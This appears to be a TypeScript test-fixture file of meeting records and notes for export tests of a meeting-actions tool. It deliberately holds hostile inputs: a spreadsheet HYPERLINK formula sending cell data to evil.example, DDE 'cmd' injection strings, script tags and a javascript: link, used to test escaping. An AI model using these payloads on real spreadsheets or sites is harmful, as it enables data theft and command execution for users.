// Deterministic inputs for the export tests: records shaped as the server returns them, from the
// DMLT meeting of test/fixtures, plus hostile text (formula injection, markup, odd links).

import type { ActionRecord, NotesDocument } from '../../shared/api/actions.js';

const base = {
  meetingId: 'm-dmlt-2020',
  meetingTitle: 'Leadership Team Virtual Face-to-Face',
  series: 'DMLT',
  createdAt: '2020-11-17T17:03:00.000Z',
  updatedAt: '2020-11-17T17:03:00.000Z',
} as const;

export const actions: ActionRecord[] = [
  {
    ...base,
    id: 'a1fritzsheet',
    description: 'Create a shared sheet to collect budget burn-downs',
    assignees: [{ id: 'p-fm', name: 'Fritz Mueller', handle: 'FM' }],
    everyone: false,
    due: '2021-01-15',
    done: false,
    tickets: [],
    sessionId: 's-2020-11-17',
    sessionDate: '2020-11-17',
    agendaItemId: 'i-plan-1',
    agendaItemTitle: 'Plan to end of project: Part I',
    sourceText: '[ ] Fritz Mueller Create a shared sheet to collect budget burn-downs by 15 Jan 2021',
  },
  {
    ...base,
    id: 'a2ktlgraph',
    description: 'convene a meeting on graph generation',
    assignees: [{ id: 'p-ktl', name: 'Kian-Tat Lim', handle: 'KTL' }],
    everyone: false,
    due: '2022-03-18',
    done: true,
    tickets: ['DM-29330'],
    sessionId: 's-2020-11-18',
    sessionDate: '2020-11-18',
    agendaItemId: 'i-gen3',
    agendaItemTitle: 'Gen3 next steps',
    sourceText: 'ACTION: @ktl convene a meeting on graph generation, due 2022-03-18 — moved to DM-29330',
    updatedAt: '2020-11-19T08:30:00.000Z',
  },
  {
    ...base,
    id: 'a3everyone',
    description: 'Review the "phase 3" validation plan, with comments',
    assignees: [],
    everyone: true,
    due: null,
    done: false,
    tickets: ['DM-1', 'PREOPS-22'],
    sessionId: 's-2020-11-18',
    sessionDate: '2020-11-18',
    agendaItemId: null,
    sourceText: 'TODO: All review the "phase 3" validation plan, with comments',
  },
  {
    ...base,
    id: 'a4hostile',
    description: '=HYPERLINK("http://evil.example/?"&A1,"click") | <script>alert(1)</script>',
    assignees: [{ id: null, name: "Wil O'Mullane", handle: 'WOM' }, { id: 'p-gpdf', name: 'Gregory Dubois-Felsmann', handle: 'GPDF' }],
    everyone: false,
    due: '2020-12-07',
    done: false,
    tickets: [],
    sessionId: 's-2020-11-19',
    sessionDate: '2020-11-19',
    agendaItemId: null,
    sourceText: '[ ] =HYPERLINK("http://evil.example/?"&A1,"click") | <script>alert(1)</script> by 2020-12-07',
  },
  ...(['+cmd|" /C calc"!A0', '-2+3+cmd', '@SUM(1+1)*cmd', '\tleading tab', 'multi\nline, text'].map(
    (description, index): ActionRecord => ({
      ...base,
      id: `a5inject${index}`,
      description,
      assignees: [{ id: null, name: '', handle: 'someone' }],
      everyone: false,
      due: null,
      done: false,
      tickets: [],
      sessionId: 's-2020-11-19',
      sessionDate: '2020-11-19',
      agendaItemId: null,
      sourceText: `TODO: @someone ${description}`,
    }),
  )),
];

export const removedAction: ActionRecord = {
  ...base,
  id: 'a9removed',
  description: 'this line was deleted from the notes',
  assignees: [],
  everyone: false,
  due: null,
  done: false,
  tickets: [],
  sessionId: 's-2020-11-17',
  sessionDate: '2020-11-17',
  agendaItemId: null,
  sourceText: 'TODO: this line was deleted from the notes',
  removed: true,
};

export const notes: NotesDocument = {
  meeting: {
    id: 'm-dmlt-2020',
    title: 'Leadership Team Virtual Face-to-Face',
    series: 'DMLT',
    startDate: '2020-11-17',
    endDate: '2020-11-19',
    timezone: 'America/Los_Angeles',
    location: 'Virtual',
    joinUrl: 'https://meet.example.org/j/8154193943',
    joinText: 'Meeting ID 815 4193 943\nPasscode <none>',
    attendees: [
      { name: "Wil O'Mullane", handle: 'WOM' },
      { name: 'Kian-Tat Lim', handle: 'KTL' },
      { name: 'Fritz Mueller', handle: 'FM' },
      { name: 'Guest <b>Bold</b>' },
    ],
  },
  agenda: [
    {
      date: '2020-11-17',
      blocks: [
        {
          title: 'Morning',
          moderator: 'YA',
          notetaker: 'KTL',
          items: [
            { id: 'i-welcome', time: '09:00', minutes: 15, topic: 'Welcome', coordinators: ['WOM'], preNotes: 'Introductory remarks; past actions' },
            { id: 'i-plan-1', time: '09:45', minutes: 45, topic: 'Plan to end of project: Part I', coordinators: ['WOM'], preNotes: 'Burn rates | milestones' },
          ],
        },
      ],
    },
    {
      date: '2020-11-18',
      blocks: [{ items: [{ id: 'i-gen3', time: '11:30', minutes: 60, topic: 'Gen3 next steps', coordinators: ['TJ'] }] }],
    },
  ],
  sessions: [
    {
      id: 's-2020-11-17',
      date: '2020-11-17',
      blocks: [
        { type: 'heading', depth: 2, inlines: [{ text: 'Plan to end of project: Part I' }], agendaItemId: 'i-plan-1' },
        { type: 'paragraph', depth: 0, inlines: [{ text: 'RHL: how does validation map to phase 3?' }] },
        { type: 'listitem', listType: 'bullet', depth: 0, inlines: [{ text: 'Burn rates are ' }, { text: 'on track', bold: true }] },
        { type: 'listitem', listType: 'bullet', depth: 1, inlines: [{ text: 'see ' }, { text: 'the sheet', href: 'https://docs.example.org/sheet?a=1&b=2' }] },
        { type: 'listitem', listType: 'bullet', depth: 1, inlines: [{ text: 'bad link', href: 'javascript:alert(1)' }] },
        { type: 'listitem', listType: 'number', depth: 0, inlines: [{ text: 'first' }] },
        { type: 'listitem', listType: 'number', depth: 0, inlines: [{ text: 'second' }] },
        {
          type: 'listitem',
          listType: 'check',
          depth: 0,
          checked: false,
          actionId: 'a1fritzsheet',
          inlines: [{ text: 'Fritz Mueller Create a shared sheet to collect budget burn-downs by 15 Jan 2021' }],
        },
        { type: 'paragraph', depth: 0, inlines: [{ text: '# not a heading, *not bold*, <script>alert("x")</script> & Q&A &amp;' }] },
        { type: 'paragraph', depth: 0, inlines: [{ text: '- not a list\n1. nor this' }] },
      ],
    },
    {
      id: 's-2020-11-18',
      date: '2020-11-18',
      blocks: [
        { type: 'heading', depth: 2, inlines: [{ text: 'Gen3 next steps' }], agendaItemId: 'i-gen3' },
        {
          type: 'paragraph',
          depth: 0,
          actionId: 'a2ktlgraph',
          inlines: [{ text: 'ACTION: ' }, { text: '@ktl' }, { text: ' convene a meeting on graph generation, due 2022-03-18' }],
        },
        { type: 'quote', depth: 0, inlines: [{ text: 'Quote of the day' }] },
        { type: 'code', depth: 0, inlines: [{ text: 'butler query-datasets ```x```' }] },
        { type: 'listitem', listType: 'check', depth: 2, checked: true, inlines: [{ text: 'deep done item' }] },
      ],
    },
    { id: 's-2020-11-19', date: '2020-11-19', blocks: [] },
  ],
  actions: [...actions.slice(0, 4), removedAction],
};

export const exportOptions = { ticketUrl: 'https://tracker.example.org/browse/{key}' };
